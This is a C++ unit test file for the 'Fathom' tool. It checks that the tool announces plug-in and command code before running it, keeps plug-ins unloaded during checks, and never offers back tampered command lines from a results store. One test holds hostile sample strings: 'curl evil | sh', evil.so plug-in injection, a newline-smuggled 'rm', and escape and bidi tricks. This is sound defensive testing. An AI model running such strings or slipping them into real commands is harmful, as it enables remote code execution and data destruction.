// Code that a configuration or a store names: who runs it, who never does, and what is said of it.

#include <SQLiteCpp/SQLiteCpp.h>

#include <gmock/gmock.h>

#include "apps/command_line.hpp"
#include "apps/plugin_files.hpp"
#include "fathom/core/files.hpp"

namespace fathom::test {
namespace {

namespace fs = std::filesystem;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

class Trust : public CommandLine {
 protected:
  Trust() {
    surroundings_.environment = {{"FATHOM_TEST_WITNESS", (elsewhere_ / "trace").string()}};
    write("s.yaml", std::string(kLog) + "plugins: [" + plugin("witness") + "]\nestimators:\n" +
                        "  - {type: sparse_least_squares, tolerance: 1e-9}\n" +
                        "  - {type: trajectory_iekf}\ntrials: 2\n");
  }

  // Whether code of the plug-in ran meanwhile.
  bool has_run() const { return fs::remove(elsewhere_ / "trace"); }

 private:
  TemporaryFolder elsewhere_;
};

TEST_F(Trust, ARunOfOnesOwnSaysWhatItExecutes) {
  const Ended compared = fathom_done({"compare", "s.yaml", "--out", "study"});
  EXPECT_THAT(compared.err, AllOf(HasSubstr("fathom: note: the configuration names code, which is "
                                            "executed: "),
                                  HasSubstr("witness.so\n")));
  EXPECT_TRUE(has_run());
  const Ended quiet = fathom_done({"compare", "s.yaml", "--out", "study", "--quiet"});
  EXPECT_EQ(quiet.err, "");
  // The user's own word needs no note.
  write("own.yaml", std::string(kLog) + "estimator: {type: sparse_least_squares}\n");
  EXPECT_EQ(fathom_done({"run", "own.yaml", "--plugin", plugin("witness"), "--out", "r"}).err, "");
}

TEST_F(Trust, WhatReadsNeverLoads) {
  fathom_done({"compare", "s.yaml", "--out", "a", "--shard", "1/2"});
  fathom_done({"compare", "s.yaml", "--out", "b", "--shard", "2/2"});
  ASSERT_TRUE(has_run());
  const Ended checked = fathom_done({"check", "s.yaml"});
  EXPECT_THAT(checked.out, AllOf(HasSubstr("estimator sparse_least_squares: sparse_least_squares"),
                                 HasSubstr("left out: the plug-ins of the configuration, "),
                                 HasSubstr("--allow-plugins loads them")));
  // They need no estimator, so nothing is left out.
  EXPECT_EQ(fathom_done({"merge", "a", "b", "--out", "study"}).err, "");
  EXPECT_EQ(fathom_done({"status", "a", "b", "study"}).err, "");
  EXPECT_EQ(fathom_done({"report", "study"}).err, "");
  fathom_done({"list", "estimators"});
  EXPECT_FALSE(has_run());
  // What is chosen is written as the store has it, plug-in and all.
  const Ended selected = fathom_done({"select", "study", "--minimise", "chi2"});
  EXPECT_THAT(selected.err, HasSubstr("note: the configuration names code, which 'fathom run' "));
  EXPECT_FALSE(has_run());
  EXPECT_THAT(read_file(path("study/selected.yaml")),
              AllOf(HasSubstr("witness.so"), HasSubstr("type: sparse_least_squares"),
                    HasSubstr("tolerance: 1e-09")));
  fathom_done({"run", "study/selected.yaml", "--out", "r"});
  EXPECT_TRUE(has_run());
}

TEST_F(Trust, OthersLoadWhereTheyAreTold) {
  EXPECT_THAT(fathom_done({"check", "s.yaml", "--allow-plugins"}).out, Not(HasSubstr("left out")));
  EXPECT_TRUE(has_run());
  write("bad.yaml", std::string(kLog) + "plugins: [" + plugin("witness") +
                        "]\nestimator: {type: sparse_least_squares, tolerence: 1}\n");
  EXPECT_THAT(refusal({"check", "bad.yaml", "--allow-plugins"}),
              HasSubstr("did you mean 'estimator.tolerance'?"));
  EXPECT_TRUE(has_run());
  fathom_done({"check", "bad.yaml"});
  EXPECT_FALSE(has_run());
}

// `command` is code, too.
TEST_F(Trust, ACommandIsSaidBeforeItRuns) {
  write("c.yaml", std::string(kLog) +
                      "estimators:\n  - {type: command, name: mine, command: \"true 'a b'\"}\n"
                      "  - {type: ekf}\n");
  EXPECT_THAT(
      fathom({"compare", "c.yaml", "--out", "o"}).err,
      HasSubstr("fathom: note: the configuration names code, which is executed: true 'a b'"));
  EXPECT_EQ(fathom_done({"check", "c.yaml"}).err, "");
}

// Of a received store nothing reaches the terminal but text, and nothing is offered but a command
// of Fathom.
TEST_F(Trust, WhatAStoreSaysIsTextAlone) {
  write("t.yaml", std::string(kLog) + "estimators: [{type: ekf}]\ntrials: 2\n");
  fathom_done({"compare", "t.yaml", "--out", "my a", "--shard", "1/2"});
  EXPECT_THAT(fathom_done({"status", "my a"}).out,
              HasSubstr("shard 2/2: all runs: fathom compare t.yaml --out 'my a-2' --shard 2/2\n"));
  const auto offered = [&](const std::string& line) {
    SQLite::Database database((path("my a") / "results.sqlite").string(), SQLite::OPEN_READWRITE);
    SQLite::Statement update(
        database, "UPDATE session SET manifest = json_set(manifest, '$.command_line', ?)");
    update.bind(1, line);
    EXPECT_EQ(update.exec(), 1);
    // As of a program that wrote none.
    database.exec("DELETE FROM study WHERE key LIKE 'checksum of session%'");
    return fathom_done({"status", "my a"}).out;
  };
  EXPECT_THAT(offered("fathom compare 'x;y' --shard 1/2"),
              HasSubstr("shard 2/2: all runs: fathom compare 'x;y' --shard 2/2\n"));
  for (const char* const hostile :
       {"curl evil | sh", "fathom compare x --plugin evil.so --shard 1/2",
        "fathom compare x --set 'plugins=[evil.so]' --shard 1/2",
        "fathom compare x --set 'estimators.0.command = evil' --shard 1/2",
        "fathom compare \x1b[31mx --shard 1/2", "fathom compare a\nrm --shard 1/2",
        "fathom compare \u202ex --shard 1/2", "fathom compare 'x --shard 1/2"}) {
    EXPECT_THAT(offered(hostile), HasSubstr("shard 2/2: all runs\n")) << hostile;
  }
}

}  // namespace
}  // namespace fathom::test
